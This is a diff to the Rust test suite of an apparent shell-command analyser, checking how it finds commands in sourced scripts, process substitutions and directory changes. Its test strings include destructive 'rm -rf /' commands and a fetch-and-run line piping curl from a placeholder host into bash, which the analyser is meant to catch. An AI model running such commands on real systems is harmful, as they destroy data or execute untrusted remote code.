@@ -833,13 +833,24 @@ fn sourced_files_and_script_files_are_analysed() {
         assert_eq!(find(&n, "rm").argv, ["rm", "-rf", "/"], "{script}");
         assert_eq!(ctx(find(&n, "rm")), ["script-file"], "{script}");
     }
-    // What cannot be read is unanalysable, with the reason.
+    // A sourced file that cannot be read, and a script the request writes itself, are
+    // unanalysable, with the reason.
     for (script, why) in [
         ("source missing.sh", "no such file"),
-        ("bash missing.sh", "no such file"),
         ("source \"$F\"", "only known at run time"),
-        ("bash big.sh", "larger than 64 KiB"),
-        ("cd \"$D\" && bash x.sh", "directory it is in is not known"),
+        (
+            "cd \"$D\" && source x.sh",
+            "directory it is in is not known",
+        ),
+        (
+            "echo 'rm -rf /' > x.sh && bash x.sh",
+            "the request itself writes",
+        ),
+        (
+            "printf 'x' | tee ./y.sh; sh y.sh",
+            "the request itself writes",
+        ),
+        ("echo x > a.sh; . ./a.sh", "the request itself writes"),
     ] {
         let n = analyze(script, PATH, Some(t.path()));
         assert!(
@@ -847,6 +858,11 @@ fn sourced_files_and_script_files_are_analysed() {
             "{script}: {:?}",
             n.unanalyzable
         );
+    }
+    // A script file that cannot be read runs like `./script.sh`: nothing to analyse.
+    for script in ["bash missing.sh", "bash big.sh", "cd \"$D\" && bash x.sh"] {
+        let n = analyze(script, PATH, Some(t.path()));
+        assert!(n.is_fully_analyzed(), "{script}: {:?}", n.unanalyzable);
     }
     // A file that sources itself ends at the bound.
     std::fs::write(t.path().join("loop.sh"), ". ./loop.sh\n").unwrap();
@@ -923,4 +939,47 @@ fn script_requests_run_by_a_shell_report_the_scripts_commands() {
     // A script for another interpreter is not read as shell.
     let n = crate::normalize(&request(Some("python3")));
     assert_eq!(n.commands.len(), 1);
+}
+
+#[test]
+fn cd_sees_the_home_and_cdpath_the_script_gives_it() {
+    let wd = |script: &str| {
+        let n = run(script);
+        n.commands.last().unwrap().working_dir.clone()
+    };
+    let changed = |d: &str| WorkingDir::Changed(vec![d.to_string()]);
+    assert_eq!(wd("HOME=/etc cd; ls"), changed("/etc"));
+    assert_eq!(wd("HOME=/etc; cd ~/ssh; ls"), changed("/etc/ssh"));
+    assert_eq!(wd("export HOME=/srv; cd; ls"), changed("/srv"));
+    assert!(matches!(wd("HOME=$X cd; ls"), WorkingDir::Unknown(_)));
+    assert!(matches!(wd("read HOME; cd; ls"), WorkingDir::Unknown(_)));
+    assert!(matches!(wd("CDPATH=/ cd etc; ls"), WorkingDir::Unknown(_)));
+    assert_eq!(wd("CDPATH=/ cd ./etc; ls"), changed("./etc"));
+    // A `HOME` given to another command does not change the shell's.
+    assert_eq!(wd("HOME=/etc true; cd; ls"), changed("~"));
+}
+
+#[test]
+fn a_shell_reading_a_process_substitution_runs_what_it_prints() {
+    for script in [
+        "bash <(echo 'rm -rf /')",
+        "sh <(printf 'rm -rf /\\n')",
+        "bash <(echo -e 'true\\nrm -rf /')",
+    ] {
+        let n = run(script);
+        let rm = find(&n, "rm");
+        assert_eq!(rm.argv, ["rm", "-rf", "/"], "{script}");
+        assert_eq!(ctx(rm), ["script-file"], "{script}");
+    }
+    let n = run("bash <(curl -s https://x.invalid/i.sh)");
+    assert!(
+        n.unanalyzable
+            .iter()
+            .any(|u| u.contains("process substitution")),
+        "{:?}",
+        n.unanalyzable
+    );
+    // Reading a substitution as data is not running it.
+    let n = run("diff <(ls a) <(ls b)");
+    assert!(n.is_fully_analyzed(), "{:?}", n.unanalyzable);
 }
